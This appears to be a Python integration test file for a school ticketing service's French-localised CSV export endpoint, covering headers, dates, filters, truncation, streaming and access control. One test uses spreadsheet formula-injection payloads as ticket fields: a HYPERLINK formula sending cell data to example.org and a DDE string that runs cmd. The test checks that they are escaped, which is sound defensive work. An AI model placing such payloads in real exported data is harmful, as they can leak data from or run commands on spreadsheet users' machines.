"""`GET /api/ticketing/tickets.csv`: the list's tickets (same filters, same visibility) as a
spreadsheet Excel opens in French, read from the database while it is sent."""

from __future__ import annotations

import secrets
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest

from ticketing.search.exporting import HEADERS

from ..conftest import Kit, fields_named
from .conftest import EXPORT, edit, execute, exported, rows

pytestmark = pytest.mark.integration


async def test_a_french_spreadsheet_with_every_column(kit: Kit) -> None:
    site = await kit.site(name="Collège Émile Zola")
    tag = await kit.host(site, room_code="C102")
    created = await kit.create_ticket(
        site,
        title="Vidéoprojecteur éteint; « plus d'image »",
        asset_tag=tag,
        room_code="C102",
        category="projector",
        requester={
            "name": "Mme Hélène Noël",
            "email": "helene.noel@ac-orleans-tours.fr",
            "phone": "+33 2 38 00 00 00",
        },
    )
    reference = created["reference"]
    await edit(
        kit,
        reference,
        status="closed",
        priority=4,
        assignee_name="Théo Technicien",
        group_name="Proximité Orléans nord",
        created_at=datetime(2026, 1, 15, 7, 5, tzinfo=UTC),  # winter: +01:00
        updated_at=datetime(2026, 7, 14, 8, 30, tzinfo=UTC),  # summer: +02:00
        solved_at=datetime(2026, 7, 13, 22, 15, tzinfo=UTC),  # already the 14th in Paris
        closed_at=datetime(2026, 7, 14, 8, 30, tzinfo=UTC),
    )

    response = await kit.client.get(EXPORT, params={"site_code": site}, headers=kit.technician)

    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    today = datetime.now(ZoneInfo("Europe/Paris")).strftime("%Y%m%d")
    assert response.headers["content-disposition"] == (
        f'attachment; filename="tickets-{today}.csv"'
    )
    assert response.headers["export-truncated"] == "false"
    assert response.content.startswith("\ufeffRéférence;Type;Statut;".encode())
    assert "Vidéoprojecteur éteint".encode() in response.content  # UTF-8, not Latin-1
    assert rows(response) == [
        list(HEADERS),
        [
            reference,
            "Incident",
            "Clos",
            "Vidéoprojecteur éteint; « plus d'image »",  # quoted around its `;`
            created["category_label"],
            "Haute",
            "Collège Émile Zola",
            "C102",
            tag,
            "Mme Hélène Noël",
            "helene.noel@ac-orleans-tours.fr",
            "'+33 2 38 00 00 00",  # a leading + is a formula to Excel
            "Théo Technicien",
            "Proximité Orléans nord",
            "15/01/2026 08:05",
            "14/07/2026 10:30",
            "14/07/2026 00:15",
            "14/07/2026 10:30",
        ],
    ]
    assert rows(response)[0] == [
        "Référence",
        "Type",
        "Statut",
        "Titre",
        "Catégorie",
        "Priorité",
        "Établissement",
        "Salle",
        "N° d'inventaire",
        "Demandeur",
        "Courriel du demandeur",
        "Téléphone du demandeur",
        "Attribué à",
        "Groupe",
        "Créé le",
        "Modifié le",
        "Résolu le",
        "Clos le",
    ]


async def test_cells_a_spreadsheet_would_run_are_written_as_text(kit: Kit) -> None:
    site = await kit.site()
    formula = '=HYPERLINK("http://example.org/?"&A1;"Cliquez")'
    created = await kit.create_ticket(
        site,
        title=formula,
        requester={"name": "@SUM(1+1)*cmd|' /C calc'!A0", "email": "a@ac-orleans-tours.fr"},
    )

    line = rows(await kit.client.get(EXPORT, params={"site_code": site}, headers=kit.technician))[1]

    assert line[0] == created["reference"]
    assert line[3] == "'" + formula
    assert line[9] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert line[11] == ""  # no phone: an empty cell


async def test_the_list_filters_apply_newest_first(kit: Kit) -> None:
    site, other = await kit.site(), await kit.site()
    first = (await kit.create_ticket(site, title="Imprimante hors service"))["reference"]
    second = (await kit.create_ticket(site, title="Imprimante sans toner"))["reference"]
    solved = (await kit.create_ticket(site, title="Imprimante bloquée"))["reference"]
    await kit.create_ticket(site, title="Souris perdue")
    await kit.create_ticket(other, title="Imprimante du CDI")
    await edit(kit, solved, status="solved")

    assert await exported(kit, site_code=site, q="imprimantes", status_group="notold") == [
        second,
        first,
    ]
    assert await exported(kit, site_code=site, status="solved") == [solved]


async def test_an_export_past_its_limit_is_cut_and_says_so(kit: Kit) -> None:
    site = await kit.site()
    made = [(await kit.create_ticket(site))["reference"] for _ in range(3)]

    cut = await kit.client.get(
        EXPORT, params={"site_code": site, "limit": 2}, headers=kit.technician
    )
    assert cut.headers["export-truncated"] == "true"
    assert [line[0] for line in rows(cut)[1:]] == [made[2], made[1]]

    whole = await kit.client.get(
        EXPORT, params={"site_code": site, "limit": 3}, headers=kit.technician
    )
    assert whole.headers["export-truncated"] == "false"
    assert [line[0] for line in rows(whole)[1:]] == made[::-1]


async def test_thousands_of_tickets_stream_in_chunks_in_order(kit: Kit) -> None:
    site = await kit.site()
    seed = (await kit.create_ticket(site))["reference"]
    prefix = f"T{secrets.token_hex(3).upper()}-"
    # More than the cursor reads at a time (`repository.EXPORT_CHUNK`), each a minute older.
    await execute(
        kit,
        """
        INSERT INTO ticketing.ticket (id, reference, type, status, title, description,
            category_code, category_label, urgency, impact, priority, site_code, site_name,
            channel, opened_by, requester_name, requester_email, search, created_at,
            updated_at)
        SELECT gen_random_uuid(), :prefix || lpad(n::text, 5, '0'), type, status, title,
            description, category_code, category_label, urgency, impact, priority, site_code,
            site_name, channel, opened_by, requester_name, requester_email, search,
            created_at - n * interval '1 minute', updated_at
        FROM ticketing.ticket, generate_series(1, 2500) AS n
        WHERE reference = :seed
        """,
        prefix=prefix,
        seed=seed,
    )

    found = await exported(kit, site_code=site)

    assert found == [seed] + [f"{prefix}{n:05d}" for n in range(1, 2501)]


@pytest.mark.parametrize("limit", ["0", "100001"])
async def test_a_limit_out_of_range_is_422_on_limit(kit: Kit, limit: str) -> None:
    response = await kit.client.get(EXPORT, params={"limit": limit}, headers=kit.technician)
    assert response.status_code == 422, response.text
    assert fields_named(response) == ["limit"]


async def test_the_filters_are_checked_before_anything_is_sent(kit: Kit) -> None:
    response = await kit.client.get(EXPORT, params={"category": "nope"}, headers=kit.technician)
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert fields_named(response) == ["category"]
    response = await kit.client.get(
        EXPORT,
        params={"created_from": "2026-02-02", "created_to": "2026-02-01"},
        headers=kit.technician,
    )
    assert fields_named(response) == ["created_to"]


async def test_nobody_without_a_ticketing_role_exports(kit: Kit) -> None:
    assert (await kit.client.get(EXPORT)).status_code == 401
    response = await kit.client.get(EXPORT, headers=kit.token("garage_teacher"))
    assert response.status_code == 403
    assert response.json()["type"] == "urn:guichet:problem:forbidden"
